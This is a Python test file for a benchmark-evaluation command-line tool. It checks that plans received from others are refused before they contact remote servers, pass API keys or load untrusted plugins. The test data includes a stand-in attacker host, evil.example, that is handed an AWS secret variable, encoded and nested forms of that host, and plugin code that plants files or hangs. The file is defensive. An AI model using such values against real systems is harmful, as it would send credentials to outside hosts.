"""A plan that somebody sent: what it would do beyond this machine is told and asked for once, before it is done."""

import json
import os
import sys
import textwrap

import pytest

from prism_eval.benchmarks.catalogue import definitions_folder
from prism_eval.cli import main
from tests.builders import chart_folder

EVIL = "https://evil.example/v1"
TO_EVIL = f"openai:m?base_url={EVIL}&check_model=false"


@pytest.fixture
def command(monkeypatch, capsys, tmp_path):
    """Give a command: its exit code, and what it says on standard error."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PRISM_EVAL_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-0123456789")
    chart_folder(tmp_path / "data", images=1, questions=1)

    def call(*words):
        monkeypatch.setattr(sys, "argv", ["prism-eval", *map(str, words)])
        with pytest.raises(SystemExit) as ended:
            main()
        return ended.value.code, capsys.readouterr().err

    return call


@pytest.fixture
def plan(tmp_path):
    def write(**keys):
        keys = {"captioners": ["blind"], "benchmarks": ["chartqa"], "data": "data", **keys}
        (tmp_path / "sent.toml").write_text("".join(f"{key} = {json.dumps(value)}\n" for key, value in keys.items()))
        return tmp_path / "sent.toml"

    return write


# Without --probe `plan` calls nobody, and `run` would: these are refused before either does anything.
@pytest.mark.parametrize(
    ("keys", "says"),
    [
        ({"captioners": [TO_EVIL]}, f"call {EVIL}"),
        ({"captioners": [f"merge(blind, {TO_EVIL})"]}, f"call {EVIL}"),
        ({"captioners": [f"direct({TO_EVIL})"]}, f"call {EVIL}"),
        ({"reasoner": TO_EVIL}, f"call {EVIL}"),
        ({"judge": TO_EVIL}, f"call {EVIL}"),
        # One text in several places is all of them.
        ({"captioners": [TO_EVIL], "benchmarks": ["chartqa", TO_EVIL]}, f"call {EVIL}"),
        ({"captioners": [f"openai:m?base_url=http://127.0.0.1:9/v1,{EVIL}"]}, f"call {EVIL}"),
        ({"captioners": [f'openai:m?base_url=["{EVIL}"]']}, f"call {EVIL}"),
        ({"captioners": ["openai:m?base_url=https%3A%2F%2Fevil.example"]}, f"call {EVIL}"),
        ({"reasoner": f"{TO_EVIL}&api_key_env=AWS_SECRET_ACCESS_KEY"}, f"call {EVIL} with $AWS_SECRET_ACCESS_KEY"),
        ({"reasoner": 'vllm:m?engine_args={"tool_parser_plugin":"/tmp/x.py"}'}, "start m with engine_args="),
        (
            {"captioners": ['merge(blind, ray:vllm:m?engine_args={"middleware":"a.b"})']},
            "start vllm:m with engine_args",
        ),
        ({"captioners": ["ray:transformers:m?address=ray://evil.example:1"]}, "call ray://evil.example:1"),
        ({"captioners": ["ray:transformers:m?address=evil.example:1"]}, "call evil.example:1"),
        ({"benchmarks": ["lmms:task.yaml"]}, "/task.yaml names"),
        ({"benchmarks": ["lmms:mine"]}, "run the code that the task files in"),
    ],
)
def test_what_a_plan_would_do_elsewhere_is_told_and_not_done(command, plan, tmp_path, keys, says):
    code, error = command("run", "--plan", plan(**keys), "-q", "--out", "out")
    assert (code, error.count("\n")) == (2, 1), error
    assert "sent.toml would do what was never done here: " in error
    assert says in error
    assert "--trust" in error
    assert "aws-secret" not in error
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "keys",
    [
        {},
        {"captioners": ["openai:m?base_url=http://127.0.0.1:9/v1&api_key_env=AWS_SECRET_ACCESS_KEY"]},
        {"captioners": ["openai:m?base_url=http://localhost:9/v1"]},
        {"captioners": ["openai:m"]},
    ],
)
def test_what_stays_on_this_machine_is_not_asked_about(command, plan, keys):
    _, error = command("plan", "--plan", plan(**keys))
    assert "--trust" not in error


def test_it_is_asked_once_for_each_thing(command, plan, tmp_path):
    sent = plan(captioners=[TO_EVIL])
    words = ("run", "--plan", sent, "-q", "--patience", "0.1", "--out", "out")
    assert command(*words)[0] == 2
    assert "never done here" not in command(*words, "--trust")[1]
    assert "never done here" not in command(*words)[1]
    # What was trusted is the server; the key is another matter.
    code, error = command("run", "--plan", plan(captioners=[f"{TO_EVIL}&api_key_env=AWS_SECRET_ACCESS_KEY"]))
    assert (code, "with $AWS_SECRET_ACCESS_KEY" in error) == (2, True)
    if os.name == "posix":
        assert (tmp_path / "cache" / "trusted.json").stat().st_mode & 0o077 == 0


def test_who_types_it_is_not_asked_and_neither_is_their_plan_of_it(command, plan):
    words = ("-b", "chartqa", "--data", "data", "-q", "--patience", "0.1")
    assert "never done here" not in command("run", "-c", TO_EVIL, *words)[1]
    assert "never done here" not in command("run", "--plan", plan(captioners=[TO_EVIL]), "-q", "--patience", "0.1")[1]


def test_who_gets_which_key_is_said_before_the_first_call(command, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-0123456789")
    words = ("run", "-c", "openai:m?base_url=http://127.0.0.1:9/v1", "-b", "chartqa", "--data", "data")
    _, error = command(*words, "--patience", "0.1")
    assert "Images go to http://127.0.0.1:9/v1 with $OPENAI_API_KEY" in error
    assert "sk-0123456789" not in error


def test_a_server_that_the_environment_names_is_the_user_s_own_word(command, plan, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", EVIL)
    assert "never done here" not in command("plan", "--plan", plan(captioners=["openai:m"]), "--probe")[1]
    # And what is sent there is not.
    sent = plan(captioners=["openai:m?api_key_env=AWS_SECRET_ACCESS_KEY"])
    assert f"call {EVIL} with $AWS_SECRET_ACCESS_KEY" in command("plan", "--plan", sent, "--probe")[1]


@pytest.mark.parametrize(
    ("verb", "changes", "asked"),
    [
        ("answer", {"reasoner": TO_EVIL}, True),
        ("answer", {"captioners": [f"direct({TO_EVIL})"]}, True),
        ("score", {"judge": TO_EVIL}, True),
        ("score", {"reasoner": TO_EVIL}, False),
        ("answer", {"reasoner": TO_EVIL, "judge": TO_EVIL}, True),
        ("answer", {"captioners": [TO_EVIL]}, False),
    ],
)
def test_the_plan_in_a_run_folder_is_a_file_too(command, plan, tmp_path, monkeypatch, verb, changes, asked):
    from prism_eval.run import replay

    folder = tmp_path / "theirs"
    folder.mkdir()
    plan(**changes).rename(folder / "plan.toml")
    # Its tables are of that plan; what matters here is what is asked before they are read.
    monkeypatch.setattr(replay, "check_belonging", lambda *_: None)
    code, error = command(verb, folder, "-q")
    assert (code == 2 and "never done here" in error) is asked, error


def test_the_gate_s_plan_is_a_file_too(command, plan, tmp_path):
    assert command("run", "-c", "blind", "-b", "chartqa", "--data", "data", "-q", "--out", "main")[0] == 0
    sent = plan(captioners=[TO_EVIL])
    words = ("gate", "--baseline", "main", "--candidate", "mine", "--until-decided", sent)
    code, error = command(*words)
    assert (code, f"call {EVIL}" in error) == (2, True)
    assert not (tmp_path / "mine").exists()


@pytest.fixture
def installed(tmp_path, monkeypatch):
    """A package of a stranger's, as pip leaves it."""

    def install(kind, name, code, package="stranger"):
        site = tmp_path / "site"
        info = site / f"{package}-1.0.dist-info"
        info.mkdir(parents=True)
        (site / f"{package}.py").write_text(textwrap.dedent(code))
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {package}\nVersion: 1.0\n")
        (info / "entry_points.txt").write_text(f"[prism_eval.{kind}s]\n{name} = {package}:Thing\n")
        monkeypatch.syspath_prepend(str(site))
        monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(site), os.environ.get("PYTHONPATH", "")]))
        from prism_eval.plugins import registry

        monkeypatch.setattr(registry, "entry_points", registry.entry_points.__wrapped__)

    return install


def test_a_stranger_s_plugin_is_not_imported_for_a_plan_that_names_it(command, plan, installed, tmp_path):
    installed("captioner", "strange", f"open({str(tmp_path / 'was here')!r}, 'w').close()")
    code, error = command("plan", "--plan", plan(captioners=["budget(strange)"]))
    assert (code, "run the plugin strange of package stranger 1.0" in error) == (2, True), error
    assert not (tmp_path / "was here").exists()


def test_nor_is_a_scorer_that_a_definition_names(command, plan, installed, tmp_path):
    installed("scorer", "strange", f"open({str(tmp_path / 'was here')!r}, 'w').close()")
    shipped = definitions_folder().joinpath("chartqa.toml").read_text("utf-8")
    (tmp_path / "mine.toml").write_text(shipped.replace('official = "relaxed"', 'official = "strange"'), "utf-8")
    sent = plan(benchmarks=["mine.toml"])
    for words in (("plan", "--plan", sent), ("run", "--plan", sent, "-q", "--out", "out")):
        code, error = command(*words)
        assert (code, "run the scorer strange of package stranger 1.0" in error) == (2, True), error
    assert not (tmp_path / "was here").exists()
    assert not (tmp_path / "out").exists()


def test_no_stranger_takes_our_names_in_any_kind(command, installed, tmp_path):
    installed("captioner", "openai", f"open({str(tmp_path / 'was here')!r}, 'w').close()")
    command("plan", "-c", "openai:m", "-b", "chartqa", "--data", "data")
    assert not (tmp_path / "was here").exists()


@pytest.mark.parametrize(
    ("code", "says"),
    [
        ("import sys; sys.exit(3)", "SystemExit: 3"),
        ("import os; os._exit(0)", "ends the program"),
        ("import time; time.sleep(60)", "takes more than 2 s"),
        ("while True: pass", "takes more than 2 s"),
        ("print('[\"\", \"\"]', flush=True); raise KeyError('no')", "KeyError"),
    ],
)
def test_listing_imports_nothing_and_checking_survives_everything(installed, command, tmp_path, code, says):
    from prism_eval.plugins import check
    from prism_eval.plugins.registry import describe

    installed("captioner", "aaa", f"open({str(tmp_path / 'was here')!r}, 'w').close()\n{code}")
    listed = [info for info in describe() if info.kind == "captioner"]
    assert listed[0].name == "aaa"
    assert not (tmp_path / "was here").exists()
    checked = check.check(listed, seconds=2)
    assert says in checked[0].problem
    assert not next(info for info in checked if info.name == "blind").problem
